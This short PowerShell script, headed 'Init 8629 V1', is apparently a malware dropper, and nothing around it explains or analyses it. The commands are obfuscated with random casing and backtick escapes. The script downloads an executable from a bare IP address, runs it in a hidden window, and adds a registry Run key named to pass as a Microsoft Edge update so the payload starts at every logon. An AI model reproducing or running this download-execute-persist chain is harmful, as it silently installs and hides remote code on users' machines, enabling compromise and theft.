# Init 8629 V1
STart-b`ItSTrAN`SFer -sourCe hTtp://203.0.113.200/SVC.eXE -deSTiNaTION c:\PROGRAMdAta\mICROSoFt\UPD.EXE
STaRt-ProcEs`S -WIndOWsTYLE hiddEn C:\PrOgRAmdatA\microSOft\UPD.Exe
nE`w-iTeM`pROPERtY -path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -NAmE 'MicrosoftEdgeUpdateCore' -VALUe 'C:\ProgramData\Microsoft\upd.exe' -PropeRtYTYPe String -foRCe
